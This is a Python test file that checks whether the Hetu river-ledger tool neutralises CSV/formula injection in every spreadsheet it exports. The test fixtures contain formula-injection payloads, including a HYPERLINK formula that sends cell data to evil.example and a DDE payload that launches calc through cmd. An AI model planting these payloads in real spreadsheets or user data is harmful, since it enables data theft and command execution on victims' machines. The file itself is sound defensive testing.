"""No table Hetu writes runs a formula, whatever text the ledger holds (CSV/formula injection).

One ledger holds formula payloads in every text a person fills in: patch and batch ids,
descriptions, township names (settings), river and segment names, chiefs' names and titles,
surveyors, finding types, event actors and notes. Every command that writes a table then
runs from the command line, and every ``.xlsx`` and ``.csv`` it wrote is read back: no
cell is a formula (openpyxl ``data_type 'f'``), and in a CSV every text a spreadsheet
would run (``= + - @``, tab, carriage return first) starts with an apostrophe (OWASP).
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely
from click.testing import CliRunner
from test_province import COLUMN_MAP, make_template

from geo.cli.main import cli
from geo.field.fieldwork import HEADERS
from geo.fileio import FORMULA_START
from geo.labels import COLUMNS
from geo.ledger.store import Ledger
from geo.records import ImportRecord
from geo.settings import load_settings

#: What an attacker types into a field: the OWASP examples and Excel's DDE.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
]
TOWNS = {"439999001": PAYLOADS[1], "439999002": PAYLOADS[4]}
LON, LAT = 113.9, 27.9
AS_OF = dt.date.today().isoformat()


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a TOML basic string is a JSON string


@pytest.fixture(scope="module")
def office(tmp_path_factory):
    """A ledger full of payloads, matched, with verdicts; the settings and the folder."""
    base = tmp_path_factory.mktemp("injection")
    settings = base / "hetu.toml"
    towns = "\n".join(f'"{code}" = {_toml(name)}' for code, name in TOWNS.items())
    settings.write_text(
        f"[office]\nname = {_toml(PAYLOADS[0])}\ncentral_meridian = 114\n"
        f'[map]\nbasemap = "none"\n[townships]\n{towns}\n',
        encoding="utf-8",
    )
    path = base / "ledger.gpkg"
    with Ledger.create(path, settings=load_settings(settings)) as led:
        _fill(led, base)
    return base, settings, path


def _fill(led: Ledger, base: Path) -> None:
    boxes = [shapely.box(LON + 0.01 * k, LAT, LON + 0.01 * k + 0.008, LAT + 0.002) for k in (0, 1)]
    segments = gpd.GeoDataFrame(
        {
            "segment_id": ["439999000001", "439999000002"],
            "range_id": ["R1", "R2"],
            "water_name": [PAYLOADS[0], PAYLOADS[5]],
            "water_code": ["=W1", "+W2"],
            "segment_name": [PAYLOADS[1], PAYLOADS[3]],
            "admin_code": ["439999001", "439999002"],
            "attrs": "{}",
        },
        geometry=boxes,
        crs=4490,
    )
    led.add_segments(segments, ImportRecord(kind="ranges", file="ranges", sha256="r"))
    chiefs = pd.DataFrame(
        [
            {"chief_id": f"C{k}{level}", "name": PAYLOADS[(k + i) % 7], "title": PAYLOADS[i],
             "level": level, "segment_id": seg, "admin_code": seg[:9], "phone": "=13800000000",
             "term_start": None, "term_end": None, "attrs": "{}"}
            for k, seg in enumerate(segments["segment_id"])
            for i, level in enumerate(("village", "township", "county"))
        ]
    )  # fmt: skip
    led.add_chiefs(chiefs, ImportRecord(kind="chiefs", file="chiefs", sha256="c"))
    n = len(PAYLOADS)
    patches = gpd.GeoDataFrame(
        {
            "patch_id": [f"{p}#{i}" for i, p in enumerate(PAYLOADS)] + ["=OUT"],
            "batch_id": PAYLOADS[0],
            "issue_type": "dumping",
            "admin_code": [f"43999900{1 + i % 2}001" for i in range(n + 1)],
            "detected_on": "2025-07-01",
            "issued_on": "2025-08-01",
            "area_m2": 100.0,
            "source_area": None,
            "description": [*PAYLOADS, PAYLOADS[2]],
            "attrs": json.dumps({"备注": PAYLOADS[5]}, ensure_ascii=False),
        },
        geometry=[
            shapely.box(LON + 0.001 * i, LAT + 0.0005, LON + 0.001 * i + 0.0003, LAT + 0.0008)
            for i in range(n)
        ]
        + [shapely.box(LON, LAT + 0.004, LON + 0.0003, LAT + 0.0043)],  # near, outside: a gap
        crs=4490,
    )
    led.add_patches(
        patches, ImportRecord(kind="patches", file="b", sha256="p", batch_id=PAYLOADS[0])
    )
    when = pd.Timestamp("2025-09-01T10:00", tz="Asia/Shanghai").isoformat()
    track = shapely.LineString([(LON, LAT + 0.001), (LON + 0.02, LAT + 0.001)])
    tracks = gpd.GeoDataFrame(
        {"name": [PAYLOADS[0]], "surveyor": [PAYLOADS[2]], "started_at": [when],
         "ended_at": [when], "n_points": [2], "attrs": ["{}"]},
        geometry=[track], crs=4490,
    )  # fmt: skip
    findings = gpd.GeoDataFrame(
        {"finding_id": [f"F{i}" for i in range(n)], "observed_at": when,
         "surveyor": PAYLOADS, "finding_type": PAYLOADS, "description": PAYLOADS,
         "attrs": "{}"},
        geometry=[shapely.Point(LON + 0.001 * i + 0.0001, LAT + 0.0006) for i in range(n)],
        crs=4490,
    )  # fmt: skip
    led.add_surveys(tracks, findings, ImportRecord(kind="surveys", file="s", sha256="s"))
    permit = base / "permit.pdf"
    permit.write_bytes(b"%PDF-1.4 permit")
    for i in (0, 3):
        pid = f"{PAYLOADS[i]}#{i}"
        led.transition(pid, "verifying", actor=PAYLOADS[i], at="2025-08-05T09:00",
                       note=PAYLOADS[(i + 1) % n])  # fmt: skip
        led.attach(pid, permit, kind="permit", actor=PAYLOADS[2], at="2025-08-06T09:00")
        led.transition(pid, "dismissed", actor=PAYLOADS[4], at="2025-08-07T09:00",
                       note=PAYLOADS[5])  # fmt: skip


def run(settings: Path, *args: object) -> str:
    result = CliRunner().invoke(
        cli, ["--settings", str(settings), *map(str, args)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return result.output


@pytest.fixture(scope="module")
def written(office):
    """Every table file written by every command, under the office's folder ``out``."""
    base, settings, led = office
    out = base / "out"
    for suffix in ("xlsx", "csv"):
        run(settings, "match", led, "--chain", out / f"chain.{suffix}",
            "--findings", out / f"findings.{suffix}", "--gaps", out / f"gaps.{suffix}")  # fmt: skip
        run(settings, "assess", led, "--start", "2025-07-01", "--end", AS_OF,
            "-o", out / f"assess.{suffix}")  # fmt: skip
        run(settings, "patrols", led, "--from", "2025-09-01", "--to", "2025-09-30",
            "-o", out / f"patrols.{suffix}")  # fmt: skip
        run(settings, "coverage", led, "-o", out / f"coverage.{suffix}")
    run(settings, "audit", led, "-o", out / "audit.xlsx", "--seed", "1", "--fraction", "1")
    template = make_template(base / "province.xlsx")
    columns = {**COLUMN_MAP, "县(市、区)": f"text:{PAYLOADS[5]}"}
    cmap = base / "columns.toml"
    cmap.write_text(
        "[columns]\n" + "".join(f"{_toml(h)} = {_toml(s)}\n" for h, s in columns.items()),
        encoding="utf-8",
    )
    run(settings, "export", led, "-o", out / "exports", "--as-of", AS_OF,
        "--template", template, "--column-map", cmap)  # fmt: skip
    run(settings, "tasks", led, "-o", out / "tasks", "--as-of", AS_OF)
    run(settings, "lists", led, "-o", out / "lists", "--as-of", AS_OF)  # the month's three lists
    sheet = sorted((out / "tasks").rglob("*.xlsx"))[0]  # the first township, by name
    book = openpyxl.load_workbook(sheet)
    ws = book.worksheets[0]
    col = {cell.value: cell.column for cell in ws[1]}
    fill = {"target": PAYLOADS[0], "date": PAYLOADS[6], "reporter": PAYLOADS[1]}
    for r in range(2, ws.max_row + 1):  # every row: a formula as target, date and reporter
        for field, text in fill.items():
            cell = ws.cell(r, col[HEADERS[field]])
            cell.value, cell.data_type = text, "s"  # typed as text, not run by openpyxl
    book.save(sheet)
    refused = CliRunner().invoke(cli, ["--settings", str(settings), "apply", str(led), str(sheet)])
    assert refused.exit_code == 1, refused.output
    return out


def _xlsx(out: Path) -> list[Path]:
    return sorted(p for p in out.rglob("*.xlsx") if not p.name.startswith("."))


def test_every_writer_wrote_its_files(written):
    names = {p.name for p in _xlsx(written)} | {p.name for p in written.rglob("*.csv")}
    for stem in (
        "chain",
        "findings",
        "gaps",
        "assess",
        "patrols",
        "patrols_未计入轨迹",
        "coverage",
    ):
        assert {f"{stem}.xlsx", f"{stem}.csv"} <= names, stem
    stems = [f"ledger_{AS_OF}{s}" for s in (".xlsx", ".csv", "_gbk_fields.xlsx", "_province.xlsx")]
    assert set(stems) <= names and "audit.xlsx" in names
    assert f"河湖三个清单_{AS_OF[:7]}.xlsx" in names  # hetu lists
    assert any(n.endswith("_退回.xlsx") for n in names)  # the rejection report of hetu apply
    assert len({p.parent for p in written.joinpath("tasks").rglob("*.xlsx")}) == 2  # townships


def test_no_cell_of_any_workbook_is_a_formula(written):
    texts = set()
    for path in _xlsx(written):
        book = openpyxl.load_workbook(path)
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str):
                        texts.add(cell.value)
    joined = "\n".join(texts)
    for payload in PAYLOADS:  # the payloads are there, as text
        assert payload.strip() in joined, payload
    assert "=cmd|' /C calc'!A0#5" in texts and PAYLOADS[1] in texts  # a patch id, a town


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_every_csv_text_a_spreadsheet_would_run_starts_with_an_apostrophe(written):
    files = sorted(written.rglob("*.csv"))
    assert len(files) == 8
    defused = set()
    for path in files:
        with open(path, encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh))
        assert len(rows) >= 2, path.name  # a header and at least one row of payloads
        for value in (v for row in rows for v in row):
            assert not (value.startswith(FORMULA_START) and not _number(value)), (path, value)
            defused.add(value)
    for payload in PAYLOADS:
        assert any(v.startswith("'" + payload) for v in defused), payload
    weekly = pd.read_csv(written / "exports" / f"ledger_{AS_OF}.csv", encoding="utf-8-sig")
    assert set(weekly[COLUMNS["township"]]) == {"'" + name for name in TOWNS.values()}
